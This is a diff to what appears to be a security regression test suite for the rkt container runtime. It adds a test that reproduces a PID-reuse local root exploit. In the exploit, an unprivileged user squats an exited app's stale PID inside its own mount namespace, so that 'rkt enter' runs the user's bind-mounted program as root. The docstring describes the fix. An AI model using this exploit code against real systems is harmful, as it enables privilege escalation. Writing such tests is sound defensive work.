@@ -8,6 +8,7 @@ today; each docstring says what is wrong and the fix.
 
 from __future__ import annotations
 
+import contextlib
 import io
 import os
 import sqlite3
@@ -21,7 +22,7 @@ import pytest
 
 from tests._busybox import busybox_aci
 from tests.conftest import ConfigDirs, Keys
-from tests.integration.conftest import NAME, ensure_user, rkt
+from tests.integration.conftest import NAME, RKT, ensure_user, rkt
 
 
 def as_member(script: str) -> subprocess.CompletedProcess[str]:
@@ -179,3 +180,113 @@ def test_an_unversioned_name_runs_the_newest_image_root_fetched_not_the_groups_p
     assert result.stdout.split()[-1:] == ["2.0.0"], (
         f"root ran the release the group picked: {result.stdout!r}"
     )
+
+
+# --- rkt enter trusts a stale pid file: pid reuse by any local user -------------------------
+
+_GRAB_PID = r"""
+import os, sys
+target, payload = int(sys.argv[1]), sys.argv[2]
+script = f"mount --bind {payload} /usr/bin/dash && exec sleep 300"
+while True:
+    pid = os.fork()
+    if pid == 0:
+        if os.getpid() == target:  # ours now: a user+mount namespace of ours, same pid
+            os.execvp("unshare", ["unshare", "-Urm", "/bin/bash", "-c", script])
+        os._exit(0)
+    if pid == target:
+        break
+    os.waitpid(pid, 0)
+"""
+
+
+def test_rkt_enter_never_joins_a_process_that_reused_an_exited_apps_pid(
+    shared_dirs: ConfigDirs, image: str, root_only: Path
+) -> None:
+    """WORKS TODAY: local root for any user who can create a user namespace. In a pod of two
+    apps, app ``a`` exits while ``b`` runs (the pod stays RUNNING). ``apps/a/pid`` still holds
+    a's host PID and enter checks only ``kill(pid, 0)``. An unprivileged user forks until
+    the kernel hands them that PID (pid_max is 32768 here), makes it a user+mount namespace
+    with their own program bind-mounted over /bin/sh, and waits. ``rkt enter --app=a UUID``
+    (as root) opens /proc/PID/ns/*, joins the attacker's mount namespace (root may join any
+    namespace), keeps the host user namespace, and execs the attacker's /bin/sh as uid 0 with
+    the app's capabilities (CAP_DAC_OVERRIDE, CAP_SETUID...) on the host's filesystems.
+    Fix: never name a process by a PID read from a file: keep a pidfd (or the pod init's
+    word over a socket) and refuse an app whose ``exit`` file exists; at least check, through
+    a pidfd opened before the check, that the process is a descendant of the pod's init and
+    in the pod's namespaces (compare /proc/PID/ns/* with the init's) and cgroup."""
+    import time
+
+    marker = root_only / "pwned"
+    uuid_file = shared_dirs.data.parent / "uuid"
+    pod = subprocess.Popen(  # noqa: S603
+        [
+            RKT,
+            *shared_dirs.flags(),
+            "run",
+            f"--uuid-file-save={uuid_file}",
+            image,
+            "--name=a",
+            "--exec=/bin/true",
+            image,
+            "--name=b",
+            "--exec=/bin/sleep",
+            "--",
+            "600",
+        ],
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+    attacker, uuid, stale = None, "", 0
+    try:
+        for _ in range(100):
+            if uuid_file.exists() and uuid_file.read_text().strip():
+                uuid = uuid_file.read_text().strip()
+                exit_file = shared_dirs.data / "pods/run" / uuid / "apps/a/exit"
+                if exit_file.exists():
+                    break
+            time.sleep(0.2)
+        else:
+            pytest.fail("the pod did not start")
+        stale = int((shared_dirs.data / "pods/run" / uuid / "apps/a/pid").read_text())
+        payload = shared_dirs.data.parent / "payload.sh"
+        payload.write_text(f"#!/bin/bash\nid > {marker} 2>&1 || true\necho entered-the-trap\n")
+        payload.chmod(0o755)
+        grab = shared_dirs.data.parent / "grab.py"
+        grab.write_text(_GRAB_PID)
+        grab.chmod(0o644)
+        user = ensure_user()
+        attacker = subprocess.Popen(  # noqa: S603
+            [
+                "setpriv",
+                f"--reuid={user}",
+                "--regid=rkt",
+                "--init-groups",
+                "--",
+                "/bin/sh",
+                "-c",
+                f"exec python3 {grab} {stale} {payload}",
+            ],
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
+        attacker.wait(timeout=300)  # returns once a process of the user holds the PID
+        for _ in range(50):  # its unshare and bind mount done
+            status = Path(f"/proc/{stale}/status")
+            if status.exists() and "sleep" in Path(f"/proc/{stale}/comm").read_text():
+                break
+            time.sleep(0.1)
+        entered = rkt(shared_dirs, "enter", "--app=a", uuid, "/bin/sh", "-c", "echo inside")
+        assert not marker.exists(), f"the user's program ran as {marker.read_text()!r}"
+        assert "entered-the-trap" not in entered.stdout, "root exec'd the user's program"
+        assert entered.returncode != 0
+    finally:
+        if stale > 1:
+            with contextlib.suppress(OSError):
+                os.kill(stale, 9)  # the user's squatter (test cleanup as root)
+        if uuid:
+            rkt(shared_dirs, "stop", "--force", uuid)
+        pod.kill()
+        pod.wait()
